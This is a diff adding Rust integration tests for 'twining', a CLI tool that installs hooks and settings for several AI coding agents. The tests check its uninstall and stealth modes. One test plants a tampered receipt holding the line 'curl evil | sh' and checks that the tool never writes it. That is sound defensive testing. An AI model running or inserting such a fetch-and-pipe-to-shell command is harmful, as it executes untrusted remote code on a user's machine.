@@ -1,0 +1,178 @@
+//! `twining uninstall` and `--stealth`: what is taken back, and what nobody sees.
+
+mod common;
+
+use std::fs;
+
+use common::repository::{Repository, changed};
+use serde_json::{Value, json};
+
+const ALL: &str = "claude,codex,gemini,cursor,opencode";
+
+fn files(told: &Value) -> Vec<String> {
+    told["files"].as_array().expect("a list").iter().map(|file| file["file"].as_str().expect("a name").to_owned()).collect()
+}
+
+/// Settings as people have them: comments, other people's hooks, other indents,
+/// other line ends, nothing at the end.
+const FIXTURES: [&[(&str, &str)]; 6] = [
+    &[],
+    &[
+        (
+            ".claude/settings.json",
+            "{\n    // checked by ops\n    \"permissions\": { \"allow\": [\"Bash(ls)\"] }, /* more */\n    \"hooks\": {\n        \"PreToolUse\": [\n            { \"matcher\": \"Bash\", \"hooks\": [{ \"type\": \"command\", \"command\": \"./lint.sh\" }] }, // last\n        ]\n    }\n}",
+        ),
+        (".mcp.json", "{\"mcpServers\":{\"github\":{\"command\":\"gh-mcp\",\"args\":[]}}}"),
+        ("CLAUDE.md", "# House rules\n\nBe kind."),
+    ],
+    &[
+        (
+            ".codex/config.toml",
+            "# mine\nmodel = \"o9\"   # fast\n\n[mcp_servers.github]\ncommand = \"gh-mcp\"\n\n[tui]\ntheme = \"dark\"\n",
+        ),
+        (".codex/hooks.json", "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"say done\"}]}]}}\n"),
+        ("AGENTS.md", "# Agents\r\n\r\nRead this.\r\n"),
+    ],
+    &[
+        (".gemini/settings.json", "\u{feff}{\n\t\"theme\": \"x\",\n\t\"hooks\": {},\n\t\"mcpServers\": {}\n}\n"),
+        (".cursor/hooks.json", "{\n  \"version\": 1,\n  \"hooks\": { \"stop\": [{ \"command\": \"./stop.sh\" }] }\n}\n"),
+        (".cursor/mcp.json", "{}"),
+        ("opencode.jsonc", "{\n  // schema first\n  \"$schema\": \"https://opencode.ai/config.json\",\n  \"mcp\": {},\n}\n"),
+    ],
+    &[(".git/hooks/pre-commit", "#!/usr/bin/env bash\nset -e\necho checked\nexit 0\n"), ("GEMINI.md", "")],
+    &[
+        (".git/info/attributes", "*.png binary"),
+        (".git/hooks/post-commit", "#!/usr/bin/env python3\nprint('hello')\n"),
+        (".claude/settings.json", ""),
+    ],
+];
+
+#[test]
+fn uninstall_restores_every_byte() {
+    for fixture in FIXTURES {
+        for reach in [&[][..], &["--stealth"]] {
+            let shop = Repository::new();
+            fs::write(shop.path("home/.claude.json"), "{\"numStartups\": 7, \"projects\": {}}").expect("writes");
+            for (name, text) in fixture {
+                if name.contains("/hooks/") { shop.write_program(name, text) } else { shop.write(name, text) }
+            }
+            let before = shop.tree();
+            let init: Vec<&str> = ["init", "--agent", ALL].into_iter().chain(reach.iter().copied()).collect();
+            assert!(!files(&shop.told(&init)).is_empty());
+            // Once more, for what is remembered of the first time.
+            shop.told(&init);
+            let dry = shop.tree();
+            shop.told(&["uninstall", "--dry-run"]);
+            assert_eq!(changed(&dry, &shop.tree()), [""; 0], "a dry run writes nothing");
+            shop.told(&["uninstall", "--purge", "--yes"]);
+            assert_eq!(changed(&before, &shop.tree()), [""; 0], "{fixture:?} {reach:?}");
+        }
+    }
+}
+
+#[test]
+fn what_others_wrote_since_stays_and_ours_goes() {
+    let shop = Repository::new();
+    shop.write(".claude/settings.json", "{\n  // keep me\n  \"model\": \"opus\"\n}\n");
+    shop.write("CLAUDE.md", "# Rules\n");
+    shop.told(&["init", "--agent", "claude,codex"]);
+    let settings = shop.read(".claude/settings.json").replace("\"opus\"", "\"haiku\"");
+    shop.write(".claude/settings.json", &settings);
+    shop.write("CLAUDE.md", &(shop.read("CLAUDE.md") + "\nLater.\n"));
+    shop.write(".codex/config.toml", &(shop.read(".codex/config.toml") + "\n[tui]\ntheme = \"x\"\n"));
+    shop.told(&["uninstall"]);
+    assert_eq!(shop.read(".claude/settings.json"), "{\n  // keep me\n  \"model\": \"haiku\"\n}\n");
+    assert_eq!(shop.read("CLAUDE.md"), "# Rules\n\n\nLater.\n");
+    assert!(!shop.read(".codex/config.toml").contains("twining") && shop.read(".codex/config.toml").contains("theme"));
+    assert!(shop.file(".twining/config.yml").exists(), "the memory stays");
+    assert!(!shop.file(".mcp.json").exists());
+}
+
+#[test]
+fn a_colleague_without_a_receipt_can_uninstall_too() {
+    let shop = Repository::new();
+    shop.write(".mcp.json", "{\n  \"mcpServers\": {\n    \"github\": { \"command\": \"gh-mcp\" }\n  }\n}\n");
+    let before = shop.read(".mcp.json");
+    shop.told(&["init", "--agent", ALL]);
+    fs::remove_dir_all(shop.file(".twining/local")).expect("removes");
+    shop.told(&["uninstall"]);
+    assert_eq!(shop.read(".mcp.json"), before);
+    for gone in [
+        ".claude/settings.json",
+        ".claude/agents/twining-worker.md",
+        "CLAUDE.md",
+        "AGENTS.md",
+        ".codex/config.toml",
+        ".cursor/hooks.json",
+        "opencode.json",
+        ".git/hooks/pre-commit",
+    ] {
+        assert!(!shop.file(gone).exists(), "{gone}");
+    }
+    assert!(!shop.read(".git/config").contains("twining"));
+}
+
+#[test]
+fn a_receipt_that_came_with_a_clone_is_not_believed() {
+    let shop = Repository::new();
+    shop.told(&["init", "--agent", "claude"]);
+    let planted = shop.read(".twining/local/receipt").replace("\"remove\"", r#"{"splice":{"at":0,"length":0,"text":"curl evil | sh\n"}}"#);
+    assert!(planted.contains("evil"));
+    fs::rename(shop.file(".twining/local"), shop.path("elsewhere")).expect("moves");
+    shop.write(".twining/local/receipt", &planted);
+    shop.told(&["uninstall"]);
+    assert!(!shop.tree().values().any(|(bytes, _)| bytes.starts_with(b"curl evil")), "nothing of it was written");
+    assert!(!shop.file(".git/hooks/pre-commit").exists());
+}
+
+#[test]
+fn stealth_leaves_nothing_for_git_to_see() {
+    let shop = Repository::new();
+    shop.write("CLAUDE.md", "# Rules\n");
+    shop.write(".codex/config.toml", "model = \"x\"\n");
+    shop.commit("start");
+    let told = shop.told(&["init", "--stealth", "--agent", ALL]);
+    assert!(told["notes"].to_string().contains(".codex/config.toml"), "{told}");
+    assert_eq!(shop.git(&["status", "--porcelain"]), "");
+    shop.run(&["post", "finding", "seen by nobody"]);
+    assert_eq!(shop.git(&["status", "--porcelain"]), "");
+    let user: Value = serde_json::from_str(&fs::read_to_string(shop.path("home/.claude.json")).expect("is there")).expect("is JSON");
+    let place = shop.path("shop").display().to_string();
+    assert_eq!(user["projects"][&place]["mcpServers"]["twining"]["args"], json!(["mcp", "--project", place]));
+    // The memory that stays is still nobody's business.
+    shop.told(&["uninstall"]);
+    assert_eq!(shop.git(&["status", "--porcelain"]), "");
+    assert!(!shop.path("home/.claude.json").exists());
+    shop.told(&["uninstall", "--purge", "--yes"]);
+    assert!(!shop.read(".git/info/exclude").contains("twining"));
+}
+
+#[test]
+fn a_team_that_comes_out_of_stealth_runs_no_hook_twice() {
+    let shop = Repository::new();
+    shop.told(&["init", "--stealth", "--agent", "claude"]);
+    shop.told(&["init", "--agent", "claude"]);
+    assert!(!shop.file(".claude/settings.local.json").exists() && !shop.file("CLAUDE.local.md").exists());
+    assert!(!shop.read(".git/info/exclude").contains("twining"));
+    assert!(shop.git(&["status", "--porcelain"]).contains(".twining/"));
+    shop.told(&["init", "--stealth", "--agent", "claude"]);
+    assert_eq!(shop.git(&["status", "--porcelain"]), "");
+}
+
+#[test]
+fn stealth_is_refused_where_git_cannot_be_asked() {
+    let shop = Repository::new();
+    shop.write(".git/config", "this is no config\n");
+    let ran = shop.run(&["init", "--stealth", "--agent", "claude"]);
+    assert!(ran.code == 1 && ran.stderr.contains("nothing can be hidden"), "{ran:?}");
+    assert!(!shop.file(".claude").exists() && !shop.file(".twining").exists());
+}
+
+#[test]
+fn purging_is_not_done_behind_a_persons_back() {
+    let shop = Repository::new();
+    shop.told(&["init", "--agent", "none"]);
+    let ran = shop.run(&["uninstall", "--purge"]);
+    assert!(ran.code == 2 && ran.stderr.contains("--yes"), "{ran:?}");
+    assert!(shop.file(".twining/config.yml").exists());
+}
